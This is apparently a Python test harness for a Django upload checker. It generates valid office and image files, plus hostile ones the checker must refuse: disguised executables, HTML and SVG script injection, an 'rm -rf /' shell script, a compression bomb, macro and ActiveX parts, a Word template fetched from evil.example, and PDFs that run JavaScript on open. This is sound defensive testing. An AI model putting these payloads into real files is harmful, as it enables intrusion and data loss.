"""Files that are whole, and files that are not what they seem: the first are taken, the others refused in a sentence."""

import io
import zipfile
from collections.abc import Iterator
from random import Random

from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from bureau.attack.judging import FILE, Figures
from bureau.files import store
from bureau.files.refused import Refused

GOOD, MALFORMED = 60, 240
LIMIT = 30 * 1024 * 1024  # bytes
KINDS = ("docx", "xlsx", "pdf", "png", "jpg")
STRANGE = {
    "program": b"MZ\x90\x00" + bytes(3000),
    "elf": b"\x7fELF" + bytes(3000),
    "page": b"<!DOCTYPE html><script>alert(1)</script>" * 20,
    "drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "script": b"#!/bin/sh\nrm -rf /\n",
    "zeros": bytes(5000),
    "empty": b"",
    "archive": b"PK\x05\x06" + bytes(18),
    "old": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600),
    "feed": b"GIF89a" + bytes(100),
}
PARTS = {
    "macro": ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
    "entities": ("word/extra.XML", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    "twice": ("word/document.xml", b"<document/>"),
    "bomb": ("word/media/bomb.xml", b"<a>" + b"0" * 100_000_000),
    "control": ("word/activeX/activeX1.xml", b"<a/>"),
    "outside": (
        "word/_rels/settings.xml.rels",
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
    ),
}


def good(chance: Random) -> Iterator[tuple[str, bytes]]:
    """Name and content, each kind as often."""
    for number in range(GOOD):
        kind = KINDS[number % len(KINDS)]
        yield f"好文件{number}.{kind}", made(kind, chance.randrange(1, 9))


def malformed(chance: Random) -> Iterator[tuple[str, bytes]]:
    """Something strange under every ending, parts that act in Word files, PDF files that act; the rest are cut off."""
    found = [(f"{what}.{kind}", content) for what, content in STRANGE.items() for kind in KINDS]
    found += [(f"{what}.docx", with_part(*part)) for what, part in PARTS.items()]
    found += [(f"{key}.pdf", acting(key)) for key in ("/OpenAction", "/AA")]
    yield from found
    for number in range(MALFORMED - len(found)):
        kind = KINDS[number % len(KINDS)]
        whole = made(kind, chance.randrange(1, 9))
        yield f"残{number}.{kind}", whole[: int(len(whole) * chance.uniform(0.05, 0.9))]


def try_all(figures: Figures, seed: int) -> None:
    """Each through the check of every form that takes files."""
    for name, content in good(Random(seed)):
        if (refusal := refused(name, content)) is not None:
            figures.fault(FILE, name, f"完好的文件被拒：{refusal}")
    for name, content in malformed(Random(seed)):
        if (refusal := refused(name, content)) is None:
            figures.fault(FILE, name, f"收下了：{name}，{len(content)} 字节")


def refused(name: str, content: bytes) -> str | None:
    """The sentence, or whatever else was raised; None: it is taken."""
    upload = SimpleUploadedFile(name, content)
    try:
        store.checked(upload, LIMIT)
    except Refused as sentence:
        return str(sentence)
    return None


def made(kind: str, size: int) -> bytes:
    out = io.BytesIO()
    if kind == "docx":
        paper = Document()
        for _ in range(size):
            paper.add_paragraph("关于做好工作的通知。" * 20)
        paper.save(out)
    elif kind == "xlsx":
        book = Workbook()
        for row in range(size * 5):
            book.active.append([row, "完成进度", "县水利局"])
        book.save(out)
    elif kind == "pdf":
        writer = PdfWriter()
        for _ in range(size):
            writer.add_blank_page(595, 842)
        writer.write(out)
    else:
        Image.effect_noise((40 * size, 30 * size), 60).save(out, {"png": "PNG", "jpg": "JPEG"}[kind])
    return out.getvalue()


def with_part(name: str, content: bytes) -> bytes:
    out = io.BytesIO(made("docx", 1))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr(name, content)
    return out.getvalue()


def acting(key: str) -> bytes:
    """A PDF that runs a script: as soon as it is opened, or at some moment of reading."""
    writer, script = PdfWriter(), DictionaryObject()
    writer.add_blank_page(595, 842)
    script[NameObject("/S")], script[NameObject("/JS")] = (
        NameObject("/JavaScript"),
        TextStringObject("app.alert(1)"),
    )
    acts = script if key == "/OpenAction" else DictionaryObject({NameObject("/WC"): script})
    writer._root_object[NameObject(key)] = acts
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
